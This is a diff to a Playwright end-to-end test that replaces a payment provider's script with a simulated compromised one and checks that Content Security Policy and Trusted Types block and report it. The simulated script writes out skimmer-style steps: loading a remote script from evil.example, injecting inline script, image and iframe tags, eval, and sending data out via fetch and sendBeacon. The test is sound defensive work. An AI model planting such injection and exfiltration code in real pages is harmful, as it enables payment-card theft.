@@ -1,5 +1,6 @@
 import type { Page } from '@playwright/test';
 import { expect } from '../../e2e/support/test';
+import { MATH } from '../../e2e/support/businesses';
 import type { StackControl } from '../StackControl';
 import { test } from './liveTest';
 
@@ -170,6 +171,52 @@ test('a policy violation is reported without the URL (threats T3 and T9)', async
     event: 'policy-violation',
     detail: 'require-trusted-types-for: trusted-types-sink',
   });
+});
+
+/** What a changed payment script could try. Only its last line is harmless, and shows that the script has run. */
+const CHANGED_SCRIPT = `
+  const script = document.createElement('script');
+  script.src = 'https://evil.example/skimmer.js';
+  const inline = document.createElement('script');
+  inline.textContent = 'window.skimmed = "inline script"';
+  document.head.append(script, inline);
+  document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/typed" onerror="skimmed = 1">');
+  document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/card-fields"></iframe>');
+  fetch('https://evil.example/typed', { method: 'POST', body: 'typed' }).catch(() => undefined);
+  navigator.sendBeacon('https://evil.example/typed', 'typed');
+  try { eval('window.skimmed = "eval"'); } catch {}
+  document.documentElement.dataset.changedScript = 'has run';
+`;
+
+test('a changed payment script loads no other script and sends nothing to another site, and what it tries is reported (threats T9)', async ({
+  amin,
+  context,
+  page,
+  stack,
+}) => {
+  const sent: string[] = [];
+  await context.route('https://evil.example/**', async (route) => {
+    sent.push(route.request().url());
+    await route.fulfill({ body: 'window.skimmed = "script"', contentType: 'text/javascript' });
+  });
+  await context.route('**/v2/chargebee.js', async (route) =>
+    route.fulfill({ body: CHANGED_SCRIPT, contentType: 'text/javascript' }),
+  );
+  await amin.open('/');
+  await amin.signIn();
+  await amin.wizard.open(MATH);
+  await amin.wizard.goToPayment();
+  await expect(page.locator('html')).toHaveAttribute('data-changed-script', 'has run');
+  for (const detail of [
+    'script-src-elem: other origin',
+    'script-src-elem: inline',
+    'img-src: other origin',
+    'frame-src: other origin',
+    'connect-src: other origin',
+  ])
+    await expectReported(stack, { event: 'policy-violation', detail });
+  expect(await page.evaluate(() => Reflect.get(window, 'skimmed'))).toBeUndefined();
+  expect(sent).toEqual([]);
 });
 
 test("the service worker's Trusted Types policy is the only one that can be created", async ({
